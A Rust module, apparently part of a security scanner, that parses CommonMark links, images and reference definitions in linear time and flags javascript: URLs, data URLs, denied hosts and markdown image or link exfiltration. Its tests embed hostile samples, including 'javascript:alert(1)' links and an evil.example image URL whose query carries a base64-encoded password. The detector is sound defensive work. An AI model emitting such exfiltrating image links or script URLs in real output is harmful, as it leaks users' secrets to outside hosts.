//! Markdown: inline links and images and reference definitions, read as CommonMark reads
//! them ([`scan_inline_links`], [`scan_references`]), their destinations unescaped and
//! classified.

use std::borrow::Cow;
use std::collections::HashMap;
use std::sync::LazyLock;

use regex::Regex;

use super::html::classify_decoded;
use super::url::{Hosts, Target};
use super::{Hit, MarkupKind};

/// Inline links and images `[text](dest "title")` / `![alt](dest)`, with CommonMark's
/// balanced-parenthesis destinations, backslash escapes and entity decoding.
pub(super) fn scan_inline_links(text: &str, hosts: &Hosts, hits: &mut Vec<Hit>) {
    let bytes = text.as_bytes();
    let opens = bracket_pairs(bytes);
    let mut dests = Destinations::new(text);
    let mut last_end = 0;
    let mut from = 0;
    while let Some(p) = text[from..].find("](") {
        let close = from + p;
        from = close + 2;
        if close < last_end {
            continue;
        }
        let Ok(k) = opens.binary_search_by_key(&close, |&(c, _)| c) else {
            continue;
        };
        let open = opens[k].1;
        let Some((dest, end)) = dests.parse(close + 2) else {
            continue;
        };
        last_end = end;
        let image = open > 0 && bytes[open - 1] == b'!' && !(open > 1 && bytes[open - 2] == b'\\');
        let start = if image { open - 1 } else { open };
        markdown_target(dest, image, start, end, hosts, hits, None);
    }
}

/// Matches `[` to `]` (skipping backslash-escaped ones, resetting at blank lines): close
/// position to open position.
fn bracket_pairs(bytes: &[u8]) -> Vec<(usize, usize)> {
    let mut stack: Vec<usize> = Vec::new();
    // Pushed in order of the closing bracket, so sorted for binary search.
    let mut pairs = Vec::new();
    let mut i = 0;
    let mut line_blank = true;
    while i < bytes.len() {
        match bytes[i] {
            b'\\' => {
                i += 2;
                line_blank = false;
                continue;
            }
            b'[' => stack.push(i),
            b']' => {
                if let Some(o) = stack.pop() {
                    pairs.push((i, o));
                }
            }
            b'\n' => {
                if line_blank {
                    stack.clear();
                }
                line_blank = true;
                i += 1;
                continue;
            }
            b' ' | b'\t' | b'\r' => {
                i += 1;
                continue;
            }
            _ => {}
        }
        line_blank = false;
        i += 1;
    }
    pairs
}

/// Reads `dest "title")` after the `(` of each `](` in a text, as CommonMark reads it, at
/// starts given in increasing order, in linear time over all of them.
///
/// Read one by one, the starts of `[x]([x](...` (or `![a](http://host/?q=` repeated) each scan
/// to the end of the text: quadratic. Instead, a bare destination is scanned once as a *path*
/// from its start to where it stops (whitespace, a control character, the end, or a `)` that
/// closes nothing), matching parentheses on the way. A later start inside the path is just
/// after a `(` the path went through with the same backslash escapes, so its destination ends
/// at the `)` that balances that `(`, or where the path stopped. What follows a destination
/// (whitespace, a title, the `)`) depends only on where the destination ends and is
/// remembered per end; a title's closing quote is found by binary search.
struct Destinations<'t> {
    text: &'t str,
    /// The last bare destination scanned: where it began and where it stopped.
    path: (usize, usize),
    /// For each `(` after a `]` on the path, the `)` that balances it.
    closes: HashMap<usize, usize>,
    /// Per destination end, the index after the link's `)` (`None`: not a link).
    tails: HashMap<usize, Option<usize>>,
    /// Per title's closing quote, where the whitespace after it ends: titles of different
    /// destinations can close at the same quote (`[x](y (` repeated, then one `)`).
    after_titles: HashMap<usize, usize>,
    /// Sorted positions of `"`, `'` and `)`, each built when a title first needs it.
    quotes: [Option<Vec<usize>>; 3],
    /// Bytes read, to check that the work stays linear.
    #[cfg(test)]
    examined: usize,
}

impl<'t> Destinations<'t> {
    fn new(text: &'t str) -> Self {
        Self {
            text,
            path: (0, 0),
            closes: HashMap::new(),
            tails: HashMap::new(),
            after_titles: HashMap::new(),
            quotes: [None, None, None],
            #[cfg(test)]
            examined: 0,
        }
    }

    fn count(&mut self, _bytes: usize) {
        #[cfg(test)]
        {
            self.examined += _bytes;
        }
    }

    /// Parses `dest "title")` starting at `at`, just after `(`; returns the raw destination
    /// and the index after the closing `)`. `None` when it is not a link (CommonMark then
    /// shows it as text). `at` must be after the previous call's.
    fn parse(&mut self, at: usize) -> Option<(&'t str, usize)> {
        let text = self.text;
        let b = text.as_bytes();
        let i = self.skip_ws(at);
        let (dest, dest_end) = if i < b.len() && b[i] == b'<' {
            let rel = b[i + 1..]
                .iter()
                .position(|&c| matches!(c, b'>' | b'\n' | b'<'));
            self.count(rel.map_or(b.len() - i, |r| r + 2));
            let rel = rel?;
            if b[i + 1 + rel] != b'>' {
                return None;
            }
            (&text[i + 1..i + 1 + rel], i + rel + 2)
        } else {
            let end = self.bare_end(i);
            (&text[i..end], end)
        };
        let after = match self.tails.get(&dest_end) {
            Some(&t) => t,
            None => {
                let t = self.tail(dest_end);
                self.tails.insert(dest_end, t);
                t
            }
        };
        after.map(|e| (dest, e))
    }

    /// Where a bare destination starting at `i` ends.
    fn bare_end(&mut self, i: usize) -> usize {
        let (from, to) = self.path;
        if from < i && i < to {
            // Inside the path, just after one of its `(` (the `](` before `i` cannot be
            // escaped away), and not at whitespace (the path would have stopped there).
            return self.closes.get(&(i - 1)).copied().unwrap_or(to);
        }
        let b = self.text.as_bytes();
        // A new map, not `clear`: clearing costs the map's whole capacity, and one long path
        // followed by many short ones would pay it each time.
        self.closes = HashMap::new();
        // Open parentheses on the path; `usize::MAX` for one not after a `]`.
        let mut stack: Vec<usize> = Vec::new();
        let mut j = i;
        while j < b.len() {
            let c = b[j];
            if c <= b' ' || c == 0x7F {
                break;
            }
            if c == b'\\' && j + 1 < b.len() && b[j + 1].is_ascii_punctuation() {
                j += 2;
                continue;
            }
            if c == b'(' {
                stack.push(if j > 0 && b[j - 1] == b']' {
                    j
                } else {
                    usize::MAX
                });
            } else if c == b')' {
                let Some(o) = stack.pop() else {
                    break;
                };
                if o != usize::MAX {
                    self.closes.insert(o, j);
                }
            }
            j += 1;
        }
        self.count(j - i + 1);
        self.path = (i, j);
        j
    }

    /// After a destination ending at `dest_end`: optional whitespace and title, then `)`.
    /// Returns the index after the `)`.
    fn tail(&mut self, dest_end: usize) -> Option<usize> {
        let b = self.text.as_bytes();
        let mut j = self.skip_ws(dest_end);
        // A title needs whitespace between it and the destination.
        if j > dest_end && j < b.len() && matches!(b[j], b'"' | b'\'' | b'(') {
            let close = self.next_quote(b[j], j + 1)?;
            j = match self.after_titles.get(&close) {
                Some(&after) => after,
                None => {
                    let after = self.skip_ws(close + 1);
                    self.after_titles.insert(close, after);
                    after
                }
            };
        }
        (j < b.len() && b[j] == b')').then_some(j + 1)
    }

    /// The first closing `"`, `'` or `)` (for a title opened by `q`) at or after `from`.
    fn next_quote(&mut self, q: u8, from: usize) -> Option<usize> {
        let (k, q) = match q {
            b'"' => (0, b'"'),
            b'\'' => (1, b'\''),
            _ => (2, b')'),
        };
        if self.quotes[k].is_none() {
            let b = self.text.as_bytes();
            self.count(b.len());
            self.quotes[k] = Some(
                b.iter()
                    .enumerate()
                    .filter_map(|(p, &c)| (c == q).then_some(p))
                    .collect(),
            );
        }
        let list = self.quotes[k].as_deref().unwrap_or_default();
        list.get(list.partition_point(|&p| p < from)).copied()
    }

    /// Skips spaces, tabs and line endings, up to (not past) a second line ending.
    fn skip_ws(&mut self, at: usize) -> usize {
        let b = self.text.as_bytes();
        let mut i = at;
        let mut newlines = 0;
        while i < b.len() && matches!(b[i], b' ' | b'\t' | b'\n' | b'\r') {
            if b[i] == b'\n' {
                newlines += 1;
                if newlines > 1 {
                    break;
                }
            }
            i += 1;
        }
        self.count(i - at + 1);
        i
    }
}

/// Judges a markdown destination for an image (auto-loads) or a link (needs a click).
fn markdown_target(
    dest: &str,
    image: bool,
    start: usize,
    end: usize,
    hosts: &Hosts,
    hits: &mut Vec<Hit>,
    also_at: Option<usize>,
) {
    let (target, encoded) = classify_decoded(&markdown_unescape(dest));
    let kind = match target {
        Target::Script => MarkupKind::JavascriptUrl,
        Target::ActiveData => MarkupKind::DataUrl,
        Target::Remote(r) if hosts.denies(&r.host) => MarkupKind::DeniedHost,
        Target::Remote(r) if !hosts.allows(&r.host) => {
            if image && r.image_carries_data() {
                MarkupKind::MarkdownImageExfil
            } else if !image && r.link_carries_data() {
                MarkupKind::MarkdownLinkExfil
            } else {
                return;
            }
        }
        _ => return,
    };
    hits.push(Hit {
        kind,
        start,
        end,
        encoded,
        also_at,
    });
}

/// CommonMark backslash escapes: `\` before ASCII punctuation is dropped.
fn markdown_unescape(s: &str) -> Cow<'_, str> {
    if !s.contains('\\') {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\\'
            && let Some(&n) = chars.peek()
            && n.is_ascii_punctuation()
        {
            out.push(n);
            chars.next();
            continue;
        }
        out.push(c);
    }
    Cow::Owned(out)
}

/// Reference definitions `[label]: url` and the images and links that use them:
/// `![alt][label]`, `![label][]`, `![label]`.
pub(super) fn scan_references(text: &str, hosts: &Hosts, hits: &mut Vec<Hit>) {
    static DEFINITION: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r"(?m)^[ \t]{0,3}(?:>[ \t]?)*\[((?:[^\[\]\\\n]|\\.)+)\]:[ \t]*\n?[ \t]*(<[^<>\n]*>|[^\s<>]\S*)")
            .expect("valid regex")
    });
    static USAGE: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r"(!?)\[((?:[^\[\]\\\n]|\\.)*)\](?:\[((?:[^\[\]\\\n]|\\.)*)\])?")
            .expect("valid regex")
    });
    let mut defs: HashMap<String, (usize, usize, &str)> = HashMap::new();
    for c in DEFINITION.captures_iter(text) {
        let m = c.get(0).expect("group 0");
        let url = c.get(2).expect("group 2").as_str();
        let url = url
            .strip_prefix('<')
            .and_then(|u| u.strip_suffix('>'))
            .unwrap_or(url);
        // The first definition of a label wins, as in CommonMark.
        defs.entry(normalize_label(&c[1]))
            .or_insert((m.start(), m.end(), url));
    }
    if defs.is_empty() {
        return;
    }
    let bytes = text.as_bytes();
    for c in USAGE.captures_iter(text) {
        let m = c.get(0).expect("group 0");
        let next = bytes.get(m.end()).copied();
        let full = c.get(3).is_some();
        if !full && matches!(next, Some(b'(' | b':')) {
            continue; // an inline link (handled elsewhere) or a definition
        }
        let label = match c.get(3) {
            Some(l) if !l.as_str().is_empty() => l.as_str(),
            _ => c.get(2).expect("group 2").as_str(),
        };
        let Some(&(ds, de, url)) = defs.get(&normalize_label(label)) else {
            continue;
        };
        let image = !c[1].is_empty();
        markdown_target(url, image, ds, de, hosts, hits, Some(m.start()));
    }
}

fn normalize_label(l: &str) -> String {
    l.split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
        .to_lowercase()
}

#[cfg(test)]
mod tests {
    use super::super::{MarkupKind, MarkupOptions, scan};
    use super::*;

    /// The destination reader as it was, one start at a time (quadratic on repeated `](`):
    /// the reference [`Destinations::parse`] must agree with.
    fn reference(text: &str, at: usize) -> Option<(&str, usize)> {
        let b = text.as_bytes();
        let mut i = at;
        let skip_ws = |mut i: usize| {
            let mut newlines = 0;
            while i < b.len() && matches!(b[i], b' ' | b'\t' | b'\n' | b'\r') {
                if b[i] == b'\n' {
                    newlines += 1;
                    if newlines > 1 {
                        break;
                    }
                }
                i += 1;
            }
            i
        };
        i = skip_ws(i);
        let (dest, mut j) = if i < b.len() && b[i] == b'<' {
            let rel = b[i + 1..]
                .iter()
                .position(|&c| matches!(c, b'>' | b'\n' | b'<'))?;
            if b[i + 1 + rel] != b'>' {
                return None;
            }
            (&text[i + 1..i + 1 + rel], i + rel + 2)
        } else {
            let s = i;
            let mut depth = 0usize;
            while i < b.len() {
                let c = b[i];
                if c <= b' ' || c == 0x7F {
                    break;
                }
                if c == b'\\' && i + 1 < b.len() && b[i + 1].is_ascii_punctuation() {
                    i += 2;
                    continue;
                }
                if c == b'(' {
                    depth += 1;
                } else if c == b')' {
                    if depth == 0 {
                        break;
                    }
                    depth -= 1;
                }
                i += 1;
            }
            (&text[s..i], i)
        };
        let dest_end = j;
        j = skip_ws(j);
        if j > dest_end && j < b.len() && matches!(b[j], b'"' | b'\'' | b'(') {
            let q = if b[j] == b'(' { b')' } else { b[j] };
            let rel = b[j + 1..].iter().position(|&c| c == q)?;
            j = skip_ws(j + 1 + rel + 1);
        }
        (j < b.len() && b[j] == b')').then_some((dest, j + 1))
    }

    /// Every `](` start in order, parsed by one [`Destinations`], against [`reference`].
    #[track_caller]
    fn agrees(text: &str) -> usize {
        let mut d = Destinations::new(text);
        let mut n = 0;
        for (p, _) in text.match_indices("](") {
            assert_eq!(d.parse(p + 2), reference(text, p + 2), "at {p} in {text:?}");
            n += 1;
        }
        n
    }

    #[test]
    fn destinations_agree_with_the_one_at_a_time_reader() {
        for t in [
            "[x](javascript:alert(1))",
            "[x]( javascript:alert(1) \"title\")",
            "[x](<javascript:alert(1)>)",
            "[x](javascript\\:alert(1))",
            "[![badge](https://evil.example/b.svg?d=1)](https://example.com/)",
            "[a](x[b](y) \"t\") [c](<d> 'e') [f](g (h))",
            "[a](\\(x[b](y\\)) z)",
            "[a](x\\][b](y)) [c](\n\n)",
            "[x](y (t)[z](w)",
            "[x]([x]([x](y)))",
            "[x](<a[x](b>)",
        ] {
            agrees(t);
        }
        // Short random texts over the pieces that matter.
        let pieces = [
            "](", "[x](", "[", "]", "(", ")", "<", ">", "\"", "'", " ", "\n", "\\", "x", "!",
        ];
        let mut seed: u64 = 0x9E37_79B9_7F4A_7C15;
        let mut starts = 0;
        for _ in 0..20_000 {
            let len = (seed >> 59) as usize + 4;
            let t: String = (0..len)
                .map(|_| {
                    seed = seed
                        .wrapping_mul(6_364_136_223_846_793_005)
                        .wrapping_add(1_442_695_040_888_963_407);
                    pieces[(seed >> 33) as usize % pieces.len()]
                })
                .collect();
            starts += agrees(&t);
        }
        assert!(starts > 40_000, "{starts}");
    }

    /// Repeated link openings used to make each `](` read to the end of the text: about
    /// `n * n / 8` bytes for `[x](` repeated. The work is now a small multiple of the length.
    #[test]
    fn destination_work_is_linear_in_the_text() {
        let inputs = [
            "[x](".repeat(25_000),
            "![a](http://evil.example/?q=".repeat(4_000),
            "[x](()".repeat(16_000),
            "[x](y (".repeat(15_000),
            "[x](y \"".repeat(15_000),
            "[x](<".repeat(20_000),
            "[x]( ".repeat(20_000),
            "[x](\\(".repeat(16_000),
            format!("{}{}", "[x](".repeat(25_000), ")".repeat(25_000)),
            // Titles of every start close at one `)`, with a long run of spaces after it.
            format!("{}){}z", "[x](y (".repeat(8_000), " ".repeat(50_000)),
        ];
        for t in &inputs {
            let mut d = Destinations::new(t);
            let mut starts = 0;
            for (p, _) in t.match_indices("](") {
                let _ = d.parse(p + 2);
                starts += 1;
            }
            assert!(starts >= 4_000);
            assert!(
                d.examined <= 8 * t.len(),
                "{} bytes read for {} of {:?}...",
                d.examined,
                t.len(),
                &t[..12]
            );
        }
    }

    fn offsets_of(text: &str, kind: MarkupKind) -> Vec<usize> {
        scan(text, &MarkupOptions::default())
            .into_iter()
            .filter(|f| f.kind == kind)
            .map(|f| f.offset)
            .collect()
    }

    #[test]
    fn links_after_long_adversarial_text_are_still_found() {
        let prefix = "[x](".repeat(25_000);
        for sep in ["", " ", "\n", "\n\n"] {
            let text = format!("{prefix}{sep}[y](javascript:alert(1))");
            let at = prefix.len() + sep.len();
            assert_eq!(
                offsets_of(&text, MarkupKind::JavascriptUrl),
                vec![at],
                "{sep:?}"
            );
        }
        let prefix = "![a](http://evil.example/?q=".repeat(4_000);
        let text = format!(
            "{prefix}\n![a](https://evil.example/p.png?d=VGhlIHVzZXIncyBwYXNzd29yZCBpcyBodW50ZXIy)"
        );
        assert_eq!(
            offsets_of(&text, MarkupKind::MarkdownImageExfil),
            vec![prefix.len() + 1]
        );
        // Nested, unbalanced openings before a real link and a long title that never closes.
        let text = format!(
            "{}\n[z](javascript:alert(1) \"t\") [w](y ({}",
            "[x](()".repeat(16_000),
            "a".repeat(50_000)
        );
        assert_eq!(
            offsets_of(&text, MarkupKind::JavascriptUrl),
            vec![6 * 16_000 + 1]
        );
        // Every link of a long run of real ones is found.
        let text = "[x](javascript:alert(1))".repeat(5_000);
        assert_eq!(offsets_of(&text, MarkupKind::JavascriptUrl).len(), 5_000);
    }
}
